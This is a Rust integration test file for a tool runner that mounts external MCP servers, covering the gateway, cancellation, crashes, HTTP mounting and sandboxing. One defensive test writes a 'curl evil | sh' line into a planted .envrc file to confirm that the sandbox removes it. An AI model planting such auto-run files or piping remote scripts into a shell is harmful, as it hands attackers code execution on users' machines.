//! Other MCP servers' tools in the toolbox, against the real reference servers from npm
//! (`@modelcontextprotocol/server-everything` and `server-filesystem`, run by Node 22;
//! `scripts/install-node-tools.sh` installs them into target/node-tools, and `.ci/run` runs
//! it before the tests): a call through `pi-tools run`, the gateway (`pi-tools mcp`),
//! progress, images, cancellation reaching the server, a server killed mid-call, servers
//! that never start, provider schemas of every mounted tool, and no process left behind.
#![cfg(feature = "cli")]

use support::mount as mount_support;
use support::procfs::{processes_with, settle_blocking};

use std::process::Stdio;
use std::sync::Arc;
use std::time::Duration;

use mount_support::{
    STARTUP, Setup, StdioGateway, everything_command, everything_config, filesystem_command, gone,
    node, path_text, processes_in, server_script, text_of, toml_list,
};

use pi_tools::config::ServerSettings;
use pi_tools::mount::{McpServerTools, ServerState};
use pi_tools::{
    CollectingSink, ContentBlock, RunnerConfig, ToolCall, ToolEvent, ToolSet, execute_tool_calls,
};
use rmcp::ServiceExt;
use rmcp::model::CallToolRequestParams;
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio_util::sync::CancellationToken;

mod changing;
mod guard;
mod hostile;
mod hostile_http;
mod http;
mod https;
mod listening;
mod media;
mod typed;
mod wild;

#[test]
fn a_call_through_run_reaches_the_server_and_its_process_ends_with_the_run() {
    let root = TempDir::new().expect("a directory for the filesystem server");
    // Mounted servers run under [sandbox]: the directory the filesystem server serves is a
    // writable root besides the working directory.
    let config = format!(
        "{}\n[mcp.servers.fs]\ncommand = {}\nstartup_timeout_secs = 60\n\n[sandbox]\nwritable_roots = [\".\", \"{}\"]\n",
        everything_config(r#"["read", "everything__*", "fs__*"]"#, ""),
        toml_list(&filesystem_command(root.path())),
        path_text(root.path())
    );
    let setup = Setup::new(&config);
    let file = root.path().join("note.txt");
    let messages = setup.run_calls(json!([
        {"id": "1", "name": "everything__echo", "arguments": {"message": "hello"}},
        {"id": "2", "name": "everything__get-sum", "arguments": {"a": 2, "b": 3}},
        {"id": "3", "name": "fs__write_file", "arguments": {"path": path_text(&file), "content": "mounted"}},
        {"id": "4", "name": "everything__echo", "arguments": {"mesage": "typo"}}
    ]));
    assert_eq!(messages.len(), 4);
    assert_eq!(messages[0]["isError"], false, "{}", messages[0]);
    assert_eq!(text_of(&messages[0]), "Echo: hello");
    assert_eq!(text_of(&messages[1]), "The sum of 2 and 3 is 5.");
    assert_eq!(messages[2]["isError"], false, "{}", messages[2]);
    assert_eq!(std::fs::read_to_string(&file).expect("written"), "mounted");
    // Validation against the server's schema happens here, before the server sees it.
    assert_eq!(messages[3]["isError"], true);
    let typo = text_of(&messages[3]);
    assert!(
        typo.contains("mesage") && typo.contains("message"),
        "{typo}"
    );
    // Both servers started in the run's working directory; neither is left (a killed
    // process may take a moment to be reaped on a loaded machine).
    let left = settle_blocking(0, || processes_in(setup.work.path()).len());
    assert_eq!(left, 0, "{:?}", processes_in(setup.work.path()));
}

#[test]
fn a_server_that_never_starts_fails_its_own_tools_with_its_stderr_and_others_keep_working() {
    let marker = "31.4159";
    let config = format!(
        "{}\n[mcp.servers.broken]\ncommand = [\"sh\", \"-c\", \"echo 'missing API key: set GITHUB_TOKEN' >&2; exit 3\"]\n\n[mcp.servers.silent]\ncommand = [\"sleep\", \"{marker}\"]\nstartup_timeout_secs = 1\n",
        everything_config(r#"["everything__echo", "broken__*", "silent__*"]"#, "")
    );
    let setup = Setup::new(&config);
    let messages = setup.run_calls(json!([
        {"id": "1", "name": "broken__create_issue", "arguments": {}},
        {"id": "2", "name": "everything__echo", "arguments": {"message": "still here"}},
        {"id": "3", "name": "silent__anything", "arguments": {}}
    ]));
    let broken = text_of(&messages[0]);
    assert_eq!(messages[0]["isError"], true);
    assert!(
        broken.contains("The MCP server `broken` could not be started")
            && broken.contains("exited with status 3")
            && broken.contains("missing API key: set GITHUB_TOKEN"),
        "{broken}"
    );
    assert_eq!(text_of(&messages[1]), "Echo: still here");
    let silent = text_of(&messages[2]);
    assert!(
        silent.contains("did not answer the MCP handshake within 1 s (startup_timeout_secs)"),
        "{silent}"
    );
    assert_eq!(processes_with(marker), Vec::<u32>::new());
    // `check` lists each server with its state and tool count.
    let (ok, stdout, stderr) = setup.run(&["check"], "");
    assert!(ok, "{stderr}");
    assert!(
        stdout.contains("mcp server everything (stdio): 13 tools, running (pid "),
        "{stdout}"
    );
    assert!(
        stdout.contains("mcp server broken (stdio): no tools, failed: The MCP server `broken` could not be started: it ended before completing the MCP handshake; its process exited with status 3; its last standard error lines:\n    missing API key: set GITHUB_TOKEN."),
        "{stdout}"
    );
    assert_eq!(processes_with(marker), Vec::<u32>::new());
}

#[test]
fn every_mounted_tool_has_an_openai_strict_and_a_gemini_schema() {
    let root = TempDir::new().expect("a directory for the filesystem server");
    let config = format!(
        "{}\n[mcp.servers.fs]\ncommand = {}\nstartup_timeout_secs = 60\n",
        everything_config(r#"["everything__*", "fs__*"]"#, ""),
        toml_list(&filesystem_command(root.path()))
    );
    let setup = Setup::new(&config);
    let (ok, catalog, stderr) = setup.run(&["catalog", "--format", "json"], "");
    assert!(ok, "{stderr}");
    let catalog: Value = serde_json::from_str(&catalog).expect("JSON");
    let tools = catalog["tools"].as_array().expect("tools");
    assert!(tools.len() > 20, "{catalog}");
    for tool in tools {
        let name = tool["name"].as_str().expect("name");
        let server = tool["server"]
            .as_str()
            .expect("a mounted tool names its server");
        assert!(name.starts_with(&format!("{server}__")), "{name}");
    }
    let (ok, prompt, stderr) = setup.run(&["prompt"], "");
    assert!(ok, "{stderr}");
    assert!(
        prompt.contains("\n- everything__echo: Echoes back the input string\n"),
        "{prompt}"
    );
    assert!(
        prompt.contains("\n- The everything__* tools come from the MCP server `everything`, whose instructions are: # Everything Server"),
        "{prompt}"
    );
    for dialect in ["openai-strict", "gemini"] {
        let (ok, stdout, stderr) = setup.run(&["schema", "--dialect", dialect], "");
        assert!(ok, "{dialect}: {stderr}");
        let schemas: Value = serde_json::from_str(&stdout).expect("JSON");
        assert_eq!(
            schemas.as_array().expect("an array").len(),
            tools.len(),
            "{dialect}: {stdout}"
        );
    }
}

/// A toolbox holding the everything server's tools, for calls through the runner.
async fn everything(extra: impl FnOnce(&mut ServerSettings)) -> (McpServerTools, ToolSet) {
    let mut settings = ServerSettings::stdio("everything", everything_command());
    settings.startup_timeout = STARTUP;
    extra(&mut settings);
    let server = McpServerTools::connect(settings)
        .await
        .expect("server-everything starts");
    let mut tools = ToolSet::new([]);
    server.add_to(&mut tools);
    (server, tools)
}

async fn call(
    tools: &ToolSet,
    config: &RunnerConfig,
    name: &str,
    args: Value,
) -> (Value, Vec<ToolEvent>) {
    let sink = CollectingSink::new();
    let outcome = execute_tool_calls(
        tools,
        &[ToolCall::new("c", name, args)],
        config,
        &CancellationToken::new(),
        &sink,
    )
    .await;
    let message = serde_json::to_value(&outcome.messages[0]).expect("JSON");
    (message, sink.events())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn progress_becomes_updates_and_images_stay_images() {
    let (server, tools) = everything(|_| {}).await;
    let config = RunnerConfig::default();
    let (message, events) = call(
        &tools,
        &config,
        "everything__trigger-long-running-operation",
        json!({"duration": 1, "steps": 2}),
    )
    .await;
    assert_eq!(
        text_of(&message),
        "Long running operation completed. Duration: 1 seconds, Steps: 2."
    );
    let updates: Vec<String> = events
        .iter()
        .filter_map(|e| match e {
            ToolEvent::ToolExecutionUpdate { partial_result, .. } => {
                Some(partial_result.text_content())
            }
            _ => None,
        })
        .collect();
    assert!(updates.contains(&"progress 1/2".to_owned()), "{updates:?}");
    let (message, _) = call(&tools, &config, "everything__get-tiny-image", json!({})).await;
    let content: Vec<ContentBlock> =
        serde_json::from_value(message["content"].clone()).expect("content blocks");
    assert!(
        content
            .iter()
            .any(|b| matches!(b, ContentBlock::Image { mime_type, data } if mime_type == "image/png" && !data.is_empty())),
        "{message}"
    );
    server.end().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_timeout_cancels_the_call_on_the_server() {
    let dir = TempDir::new().expect("a directory for the wire logs");
    let input = dir.path().join("in.log");
    let output = dir.path().join("out.log");
    // The server's input and output, copied on their way.
    let wire = format!(
        "tee {} | '{}' '{}' | tee {}",
        path_text(&input),
        node(),
        server_script("server-everything"),
        path_text(&output)
    );
    let (server, tools) = everything(|s| {
        *s = ServerSettings {
            startup_timeout: STARTUP,
            // The wire logs are written outside the workspace.
            sandbox: false,
            ..ServerSettings::stdio("everything", vec!["sh".into(), "-c".into(), wire])
        };
    })
    .await;
    let config = RunnerConfig {
        timeout: Some(Duration::from_millis(700)),
        ..RunnerConfig::default()
    };
    let (message, _) = call(
        &tools,
        &config,
        "everything__trigger-long-running-operation",
        json!({"duration": 2, "steps": 4}),
    )
    .await;
    assert_eq!(message["isError"], true);
    assert!(text_of(&message).contains("timed out"), "{message}");
    // `tee` copies what the server is sent into the log on its own time.
    let mut sent: Vec<Value> = Vec::new();
    for _ in 0..100 {
        sent = std::fs::read_to_string(&input)
            .expect("the input log")
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect();
        if sent
            .iter()
            .any(|m| m["method"] == "notifications/cancelled")
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let request = sent
        .iter()
        .find(|m| m["method"] == "tools/call")
        .expect("the call was sent");
    let cancelled = sent
        .iter()
        .find(|m| m["method"] == "notifications/cancelled")
        .expect("the cancellation was sent");
    assert_eq!(cancelled["params"]["requestId"], request["id"]);
    // The server dropped the request: no result for it, even after it would have finished.
    tokio::time::sleep(Duration::from_millis(2500)).await;
    let answered = std::fs::read_to_string(&output)
        .expect("the output log")
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .any(|m| m["id"] == request["id"] && m.get("result").is_some());
    assert!(!answered, "the server answered a cancelled call");
    server.end().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_killed_mid_call_fails_that_call_and_the_next_call_restarts_it() {
    let (server, tools) = everything(|_| {}).await;
    let ServerState::Running(Some(first)) = server.state().await else {
        panic!("the server runs");
    };
    let tools = Arc::new(tools);
    let running = {
        let tools = tools.clone();
        tokio::spawn(async move {
            call(
                &tools,
                &RunnerConfig::default(),
                "everything__trigger-long-running-operation",
                json!({"duration": 10, "steps": 10}),
            )
            .await
        })
    };
    tokio::time::sleep(Duration::from_millis(500)).await;
    // SAFETY: kill(2) on the server's own process id.
    unsafe {
        libc::kill(first as i32, libc::SIGKILL);
    }
    let (message, _) = tokio::time::timeout(Duration::from_secs(10), running)
        .await
        .expect("the call ends soon after the server dies")
        .expect("the task");
    let text = text_of(&message);
    assert_eq!(message["isError"], true);
    assert!(
        text.contains(
            "The MCP server `everything` stopped while everything__trigger-long-running-operation was running"
        ) && text.contains("killed by signal 9")
            && text.contains("The next call starts the server again."),
        "{text}"
    );
    let (message, _) = call(
        &tools,
        &RunnerConfig::default(),
        "everything__echo",
        json!({"message": "again"}),
    )
    .await;
    assert_eq!(text_of(&message), "Echo: again");
    let ServerState::Running(Some(second)) = server.state().await else {
        panic!("the server runs again");
    };
    assert_ne!(first, second);
    assert!(gone(first));
    server.end().await;
    assert!(gone(second), "the server outlived the end of the session");
    assert_eq!(server.state().await, ServerState::Ended);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_gateway_serves_mounted_tools_beside_the_built_in_ones() {
    let setup = Setup::new(&everything_config(
        r#"["read", "everything__echo", "everything__get-tiny-image"]"#,
        "",
    ));
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_cli-under-test"))
        .arg("--config")
        .arg(setup.config())
        .arg("mcp")
        .arg("--cwd")
        .arg(setup.work.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .kill_on_drop(true)
        .spawn()
        .expect("the binary starts");
    let stdin = child.stdin.take().expect("stdin");
    let stdout = child.stdout.take().expect("stdout");
    let client = tokio::time::timeout(STARTUP, ().serve((stdout, stdin)))
        .await
        .expect("the gateway answers in time")
        .expect("the handshake");
    let names: Vec<String> = client
        .peer()
        .list_all_tools()
        .await
        .expect("tools/list")
        .into_iter()
        .map(|t| t.name.to_string())
        .collect();
    assert_eq!(
        names,
        ["read", "everything__echo", "everything__get-tiny-image"]
    );
    let mut params = CallToolRequestParams::new("everything__echo");
    params.arguments = json!({"message": "through the gateway"})
        .as_object()
        .cloned();
    let result = client.peer().call_tool(params).await.expect("tools/call");
    let result = serde_json::to_value(&result).expect("JSON");
    assert_eq!(result["content"][0]["text"], "Echo: through the gateway");
    let result = client
        .peer()
        .call_tool(CallToolRequestParams::new("everything__get-tiny-image"))
        .await
        .expect("tools/call");
    let result = serde_json::to_value(&result).expect("JSON");
    assert!(
        result["content"]
            .as_array()
            .expect("content")
            .iter()
            .any(|b| b["type"] == "image" && b["mimeType"] == "image/png"),
        "{result}"
    );
    assert_eq!(processes_in(setup.work.path()).len(), 1, "one server runs");

    // Its resources, re-served under its mount name and read through the gateway.
    let resources = client
        .peer()
        .list_all_resources()
        .await
        .expect("resources/list");
    let mounted: Vec<_> = resources
        .iter()
        .filter(|r| r.uri.starts_with("mcp-mount://everything/"))
        .collect();
    assert!(!mounted.is_empty(), "{resources:?}");
    assert!(
        mounted.iter().all(|r| r.name.starts_with("everything__")),
        "{mounted:?}"
    );
    let architecture = mounted
        .iter()
        .find(|r| r.name == "everything__architecture.md")
        .unwrap_or_else(|| panic!("{mounted:?}"));
    assert_eq!(
        architecture.uri,
        "mcp-mount://everything/demo%3A%2F%2Fresource%2Fstatic%2Fdocument%2Farchitecture.md"
    );
    let read = client
        .peer()
        .read_resource(rmcp::model::ReadResourceRequestParams::new(
            architecture.uri.clone(),
        ))
        .await
        .expect("resources/read");
    let read = serde_json::to_value(&read).expect("JSON");
    let contents = &read["contents"][0];
    assert_eq!(contents["uri"], architecture.uri.as_str(), "{read}");
    assert_eq!(contents["mimeType"], "text/markdown", "{read}");
    assert!(
        contents["text"]
            .as_str()
            .is_some_and(|t| t.starts_with("# Everything Server")),
        "{read}"
    );
    let missing = client
        .peer()
        .read_resource(rmcp::model::ReadResourceRequestParams::new(
            "mcp-mount://everything/no%3A%2F%2Fsuch",
        ))
        .await
        .expect_err("no such resource");
    assert!(
        missing
            .to_string()
            .contains("The MCP server `everything` could not read no://such:"),
        "{missing}"
    );

    drop(client);
    let status = tokio::time::timeout(Duration::from_secs(20), child.wait())
        .await
        .expect("the gateway ends when its input closes")
        .expect("status");
    assert!(status.success());
    assert_eq!(processes_in(setup.work.path()), Vec::<u32>::new());
}

#[test]
fn a_streamable_http_server_is_mounted_by_its_url() {
    use std::io::BufRead;
    // Port 0: the server takes a free port itself and the test reads it from /proc, so no
    // other test can take a port chosen for it before it binds.
    let mut server = std::process::Command::new(node())
        .arg(server_script("server-everything"))
        .arg("streamableHttp")
        .env("PORT", "0")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the HTTP server starts");
    let mut lines = std::io::BufReader::new(server.stderr.take().expect("stderr")).lines();
    let listening = lines.any(|l| l.is_ok_and(|l| l.contains("listening on port")));
    assert!(listening, "the HTTP server did not start");
    let ports = support::procfs::listening_ports(server.id());
    let [port] = ports[..] else {
        panic!("the HTTP server listens on one port, not {ports:?}");
    };
    let setup = Setup::new(&format!(
        "[tools]\nactive = [\"web__echo\"]\n\n[mcp.servers.web]\nurl = \"http://127.0.0.1:{port}/mcp\"\nheaders = {{ \"X-Test\" = \"mounted\" }}\n"
    ));
    let messages = setup.run_calls(json!([
        {"id": "1", "name": "web__echo", "arguments": {"message": "over HTTP"}}
    ]));
    let exited = server.try_wait().expect("the server's status");
    let _ = server.kill();
    let _ = server.wait();
    assert_eq!(exited, None, "the HTTP server ended during the test");
    assert_eq!(text_of(&messages[0]), "Echo: over HTTP", "{}", messages[0]);
}

#[test]
fn a_sandboxed_server_is_confined_as_bash_is() {
    let root = TempDir::new().expect("a directory for the filesystem server");
    std::fs::write(root.path().join("a.txt"), "readable\n").expect("a file");
    let server = |name: &str, sandbox: bool| {
        format!(
            "[mcp.servers.{name}]\ncommand = {}\nstartup_timeout_secs = 60\nsandbox = {sandbox}\n",
            toml_list(&filesystem_command(root.path()))
        )
    };
    let setup = Setup::new(&format!(
        "[tools]\nactive = [\"boxed__*\", \"free__*\"]\n\n[sandbox]\nmode = \"read-only\"\n\n{}\n{}",
        server("boxed", true),
        server("free", false)
    ));
    let write = |tool: &str, file: &str| json!({"id": tool, "name": tool, "arguments": {"path": path_text(&root.path().join(file)), "content": "x"}});
    let messages = setup.run_calls(json!([
        write("boxed__write_file", "boxed.txt"),
        {"id": "r", "name": "boxed__read_text_file", "arguments": {"path": path_text(&root.path().join("a.txt"))}},
        write("free__write_file", "free.txt")
    ]));
    assert_eq!(messages[0]["isError"], true, "{}", messages[0]);
    assert!(text_of(&messages[0]).contains("EACCES"), "{}", messages[0]);
    assert!(!root.path().join("boxed.txt").exists());
    assert_eq!(text_of(&messages[1]), "readable\n");
    assert_eq!(messages[2]["isError"], false, "{}", messages[2]);
    assert!(root.path().join("free.txt").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_eager_server_starts_with_the_session_and_a_lazy_one_waits_for_use() {
    use pi_tools::config::Config;
    use pi_tools::mount::Mounts;
    let command = toml_list(&everything_command());
    let text = format!(
        "[tools]\nactive = [\"eager__echo\", \"lazy__echo\"]\n\n[mcp.servers.eager]\ncommand = {command}\neager = true\nstartup_timeout_secs = 60\n\n[mcp.servers.lazy]\ncommand = {command}\n"
    );
    let config = Config::parse(&text, "pi-tools.toml", &[]).expect("valid");
    let work = TempDir::new().expect("a working directory");
    let mounts = Mounts::from_config(&config, work.path()).expect("mounts");
    assert_eq!(mounts.state("eager").await, Some(ServerState::NotStarted));
    mounts.start_eager();
    let mut pid = None;
    for _ in 0..600 {
        if let Some(ServerState::Running(Some(p))) = mounts.state("eager").await {
            pid = Some(p);
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let pid = pid.expect("the eager server started on its own");
    assert_eq!(mounts.state("lazy").await, Some(ServerState::NotStarted));
    assert_eq!(processes_in(work.path()), [pid]);
    mounts.end().await;
    assert!(gone(pid));
    assert_eq!(mounts.state("eager").await, Some(ServerState::Ended));
}

/// Two calls of a tool that is not read-only (pi-tools' own `bash`, served by `pi-tools mcp`
/// and mounted) take turns on their server, though the batch runs in parallel; with
/// `parallel = true` on the server's entry they overlap.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn calls_that_are_not_read_only_take_turns_on_their_server_unless_it_says_parallel() {
    for parallel in [false, true] {
        let dir = TempDir::new().expect("a temporary directory");
        let command = vec![
            env!("CARGO_BIN_EXE_cli-under-test").to_owned(),
            "mcp".to_owned(),
            "--cwd".to_owned(),
            path_text(dir.path()),
        ];
        let mut settings = ServerSettings::stdio("inner", command);
        settings.startup_timeout = STARTUP;
        settings.parallel = parallel;
        let server = McpServerTools::connect(settings)
            .await
            .expect("pi-tools mcp starts");
        let mut tools = ToolSet::new([]);
        server.add_to(&mut tools);
        let args = json!({"command": "date +%s%N; sleep 1; date +%s%N"});
        let calls = [
            ToolCall::new("a", "inner__bash", args.clone()),
            ToolCall::new("b", "inner__bash", args),
        ];
        let outcome = execute_tool_calls(
            &tools,
            &calls,
            &RunnerConfig::default(),
            &CancellationToken::new(),
            &CollectingSink::new(),
        )
        .await;
        let spans: Vec<(u128, u128)> = outcome
            .messages
            .iter()
            .map(|message| {
                let text = text_of(&serde_json::to_value(message).expect("JSON"));
                let times: Vec<u128> = text
                    .lines()
                    .filter_map(|line| line.trim().parse().ok())
                    .collect();
                assert_eq!(times.len(), 2, "{text}");
                (times[0], times[1])
            })
            .collect();
        let overlap = spans[0].0 < spans[1].1 && spans[1].0 < spans[0].1;
        assert_eq!(overlap, parallel, "parallel = {parallel}: {spans:?}");
        drop(server);
    }
}

/// Issue 45: a mounted server runs under `[sandbox]` by default, and what it makes where
/// other programs run files by themselves (here `.envrc`, through the filesystem server's
/// own write) is taken away after its call, as after a bash call; its other writes stay.
#[test]
fn a_mounted_server_cannot_plant_what_other_programs_run() {
    let setup = Setup::new("");
    let work = std::fs::canonicalize(setup.work.path()).expect("canonical");
    std::fs::write(
        setup.config(),
        format!(
            "[tools]\nactive = [\"fs__*\"]\n\n[mcp.servers.fs]\ncommand = {}\nstartup_timeout_secs = 60\n",
            toml_list(&filesystem_command(&work))
        ),
    )
    .expect("the configuration is written");
    let planted = work.join(".envrc");
    let kept = work.join("notes.txt");
    let messages = setup.run_calls(json!([
        {"id": "1", "name": "fs__write_file", "arguments": {"path": path_text(&planted), "content": "curl evil | sh\n"}},
        {"id": "2", "name": "fs__write_file", "arguments": {"path": path_text(&kept), "content": "fine\n"}}
    ]));
    assert_eq!(messages.len(), 2);
    let texts: Vec<String> = messages[0]["content"]
        .as_array()
        .expect("content")
        .iter()
        .filter_map(|b| b["text"].as_str().map(str::to_owned))
        .collect();
    assert!(
        texts.iter().any(|t| t.contains(&format!(
            "[The sandbox took away what the MCP server `fs` made where other programs load or run files by themselves later, outside any sandbox: removed {}",
            planted.display()
        ))),
        "{texts:?}"
    );
    assert!(!planted.exists(), "the planted file is gone");
    assert_eq!(std::fs::read_to_string(&kept).expect("kept"), "fine\n");
}
